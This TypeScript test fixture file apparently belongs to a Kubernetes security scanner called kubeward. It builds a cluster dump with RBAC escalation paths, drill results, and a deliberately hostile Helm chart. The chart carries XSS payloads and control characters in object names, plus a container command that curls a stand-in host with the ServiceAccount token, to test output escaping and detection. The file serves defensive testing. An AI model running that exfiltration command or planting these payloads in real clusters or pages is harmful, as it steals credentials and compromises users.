/**
 * Inputs for the posture report tests: a cluster dump of a few teams (RBAC with an escalation path,
 * a namespace with default-deny, workloads on default ServiceAccounts), a hostile chart whose names
 * carry markup and control characters, a drill result, alert verdicts, and a large generated cluster.
 */
import { chartYaml } from '../helpers/chart.js';

export const SECRET_MARKER = 'kubeward-secret-value-7f3a9c';

const ns = (name: string, labels: Record<string, string> = {}) => ({ apiVersion: 'v1', kind: 'Namespace', metadata: { name, labels: { 'kubernetes.io/metadata.name': name, ...labels } } });

function deployment(namespace: string, name: string, options: { serviceAccount?: string; image?: string; labels?: Record<string, string> } = {}) {
  const labels = { app: name, ...options.labels };
  return {
    apiVersion: 'apps/v1',
    kind: 'Deployment',
    metadata: { namespace, name, labels },
    spec: {
      selector: { matchLabels: { app: name } },
      template: { metadata: { labels }, spec: { ...(options.serviceAccount ? { serviceAccountName: options.serviceAccount } : {}), containers: [{ name: 'main', image: options.image ?? `registry.example.com/${namespace}/${name}:1.0` }] } },
    },
  };
}

const sa = (namespace: string, name: string) => ({ apiVersion: 'v1', kind: 'ServiceAccount', metadata: { namespace, name } });
const rbac = 'rbac.authorization.k8s.io/v1';

/** A cluster dump (`kubectl get … -A -o json`): four teams, one with default-deny, a CI account that can create pods in kube-system. */
export function clusterDump(): Record<string, unknown> {
  const items = [
    ns('payments-api'),
    ns('checkout'),
    ns('tracing'),
    ns('kube-system'),
    sa('payments-api', 'payments'),
    sa('checkout', 'checkout'),
    sa('ci', 'deployer'),
    sa('kube-system', 'replicaset-controller'),
    sa('kube-system', 'admin-bot'),
    { apiVersion: rbac, kind: 'ClusterRoleBinding', metadata: { name: 'admin-bot' }, roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [{ kind: 'ServiceAccount', namespace: 'kube-system', name: 'admin-bot' }] },
    deployment('payments-api', 'payments', { serviceAccount: 'payments' }),
    deployment('payments-api', 'ledger'),
    deployment('checkout', 'checkout', { serviceAccount: 'checkout' }),
    deployment('checkout', 'cart', { image: 'docker.io/library/redis:7' }),
    deployment('kube-system', 'coredns', { labels: { 'k8s-app': 'kube-dns' }, image: 'registry.k8s.io/coredns/coredns:v1.11.1' }),
    { apiVersion: 'networking.k8s.io/v1', kind: 'NetworkPolicy', metadata: { namespace: 'payments-api', name: 'default-deny' }, spec: { podSelector: {}, policyTypes: ['Ingress', 'Egress'] } },
    { apiVersion: 'v1', kind: 'Secret', metadata: { namespace: 'payments-api', name: 'db' }, type: 'Opaque', stringData: { password: SECRET_MARKER }, data: { password: Buffer.from(SECRET_MARKER).toString('base64') } },
    { apiVersion: rbac, kind: 'ClusterRole', metadata: { name: 'pod-launcher' }, rules: [{ apiGroups: [''], resources: ['pods'], verbs: ['create'] }] },
    { apiVersion: rbac, kind: 'ClusterRoleBinding', metadata: { name: 'ci-pod-launcher' }, roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'pod-launcher' }, subjects: [{ kind: 'ServiceAccount', namespace: 'ci', name: 'deployer' }] },
    { apiVersion: rbac, kind: 'ClusterRole', metadata: { name: 'everything' }, rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }] },
    { apiVersion: rbac, kind: 'RoleBinding', metadata: { namespace: 'checkout', name: 'checkout-admin' }, roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'everything' }, subjects: [{ kind: 'ServiceAccount', namespace: 'checkout', name: 'checkout' }] },
    { apiVersion: rbac, kind: 'ClusterRole', metadata: { name: 'system:controller:replicaset-controller' }, rules: [{ apiGroups: [''], resources: ['secrets'], verbs: ['list', 'get'] }] },
    { apiVersion: rbac, kind: 'ClusterRoleBinding', metadata: { name: 'system:controller:replicaset-controller' }, roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'system:controller:replicaset-controller' }, subjects: [{ kind: 'ServiceAccount', namespace: 'kube-system', name: 'replicaset-controller' }] },
  ];
  return { apiVersion: 'v1', kind: 'List', items };
}

/** Names as an attacker would write them: markup that would run, close the style or script, break attributes, and control characters. */
export const HOSTILE = `evil</style></script><script>window.__pwned=1</script><img src=x onerror="window.__pwned=2">'"\u001b[31m\u202e`;
const HOSTILE_LABEL = 'x</script><script>window.__pwned=3</script>';

/** A chart whose object names, labels, images and messages carry HOSTILE (as YAML strings). */
export function hostileChart(): Record<string, string> {
  const quoted = JSON.stringify(HOSTILE);
  return {
    'Chart.yaml': chartYaml('hostile-chart'),
    'templates/all.yaml': `apiVersion: v1
kind: ServiceAccount
metadata:
  name: ${quoted}
  namespace: ${JSON.stringify(`ns-${HOSTILE}`)}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: ${JSON.stringify(`role-${HOSTILE}`)}
rules:
  - apiGroups: [""]
    resources: ["secrets"]
    verbs: ["get", "list", "watch"]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata:
  name: ${JSON.stringify(`binding-${HOSTILE}`)}
roleRef:
  apiGroup: rbac.authorization.k8s.io
  kind: ClusterRole
  name: ${JSON.stringify(`role-${HOSTILE}`)}
subjects:
  - kind: ServiceAccount
    name: ${quoted}
    namespace: ${JSON.stringify(`ns-${HOSTILE}`)}
---
apiVersion: apps/v1
kind: Deployment
metadata:
  name: ${JSON.stringify(`deploy-${HOSTILE}`)}
  namespace: ${JSON.stringify(`ns-${HOSTILE}`)}
  labels:
    app: ${JSON.stringify(HOSTILE_LABEL)}
spec:
  selector:
    matchLabels:
      app: ${JSON.stringify(HOSTILE_LABEL)}
  template:
    metadata:
      labels:
        app: ${JSON.stringify(HOSTILE_LABEL)}
    spec:
      serviceAccountName: ${quoted}
      containers:
        - name: agent
          image: ${JSON.stringify(`evil.example.com/${HOSTILE}:latest`)}
        - name: ${JSON.stringify(`side-${HOSTILE}`)}
          image: "evil.example.com/side:latest"
          command: ["sh", "-c", "curl http://x.example/\`cat /var/run/secrets/kubernetes.io/serviceaccount/token\`"]
---
apiVersion: v1
kind: Secret
metadata:
  name: ${JSON.stringify(`secret-${HOSTILE}`)}
  namespace: ${JSON.stringify(`ns-${HOSTILE}`)}
stringData:
  token: ${SECRET_MARKER}
`,
  };
}

/** What `kubeward drill run --format json` writes (issue 12's contract). */
export function drillResult(): Record<string, unknown> {
  return {
    kubeward: '0.1.0',
    scenario: 'trojan-chart',
    namespace: 'checkout',
    stages: [
      { stage: 'recon', outcome: 'stopped', summary: 'kubeward scan blocks the install at high', evidence: [{ text: '1 critical finding' }], gaps: [] },
      { stage: 'evaluate', outcome: 'detected', summary: 'the audit names the ServiceAccount', evidence: [], gaps: [] },
      { stage: 'fortify', outcome: 'missed', summary: 'no admission policy denies the ClusterRoleBinding', evidence: [], gaps: [{ title: 'No policy on ClusterRoleBindings', fix: 'Enforce cluster-role-bindings from the built-in pack' }] },
      { stage: 'limit', outcome: 'partial', summary: `DNS to kube-dns still leaks ${HOSTILE}`, evidence: [], gaps: [{ title: 'DNS exfiltration through CoreDNS', fix: 'deny DNS for pods that need none' }] },
      { stage: 'expose', outcome: 'detected', summary: 'secrets-read-across-namespaces after 42 s', evidence: [], gaps: [] },
    ],
    firstStop: 'recon',
    timeToDetectSeconds: 42,
    gaps: 2,
  };
}

/** What `kubeward drill score --format json` writes for two live-fire drills with a survey (issue 12). */
export function drillScore(): Record<string, unknown> {
  const drill = (started: string, remediated: string, seconds: number) => ({ source: 'alerts.jsonl', started, remediated, firstAlert: null, timeToDetectSeconds: 40, timeToRemediateSeconds: seconds, alerts: 3, namedPod: true, namedServiceAccount: true });
  return {
    kubeward: 'drill-score',
    drills: [drill('2026-03-01T10:00:00.000Z', '2026-03-01T10:20:00.000Z', 1200), drill('2026-04-01T10:00:00.000Z', '2026-04-01T10:22:00.000Z', 1320)],
    meanTimeToDetectSeconds: 40,
    meanTimeToRemediateSeconds: 1260,
    gaps: [],
    confidence: { responses: 6, average: 3.83 },
  };
}

